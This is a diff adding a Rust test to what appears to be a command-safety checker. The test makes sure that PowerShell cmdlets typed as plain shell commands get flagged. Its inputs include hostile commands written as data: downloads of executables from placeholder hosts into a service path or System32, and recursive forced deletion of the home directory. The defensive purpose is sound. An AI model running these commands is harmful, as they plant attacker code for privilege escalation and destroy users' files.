@@ -204,3 +204,36 @@ fn interpreter_code_changing_a_system_files_owner_or_mode() {
         "clean",
     );
 }
+
+/// Misses (wlpe first contact, found generalising them): a PowerShell
+/// cmdlet typed as a shell command was an unknown program, so
+/// `Remove-Item -Recurse -Force C:\Users\dev` and `iwr URL -OutFile
+/// "C:\Program Files\...\Service.exe"` passed though the same words under
+/// `pwsh -c` are judged. A cmdlet the shell does not know is judged as
+/// PowerShell runs it.
+#[test]
+fn a_cmdlet_typed_as_a_shell_command_is_judged_as_powershell() {
+    flagged_each(
+        &[
+            "iwr -Uri http://ip:port/Service.exe -Outfile \"C:\\Program Files\\Vulnerable Service1\\Service.exe\"",
+            "Invoke-WebRequest -Uri http://x.example/a.exe -OutFile C:\\Windows\\System32\\a.exe",
+        ],
+        Category::SelfEscalation,
+        Severity::High,
+    );
+    flagged_each(
+        &[
+            "Remove-Item -Recurse -Force ~",
+            "Remove-Item -Recurse -Force $HOME",
+        ],
+        Category::Destructive,
+        Severity::High,
+    );
+    each(
+        &[
+            "Get-ChildItem -Recurse src",
+            "Invoke-WebRequest -Uri https://example.com/release.zip -OutFile release.zip",
+        ],
+        "clean",
+    );
+}
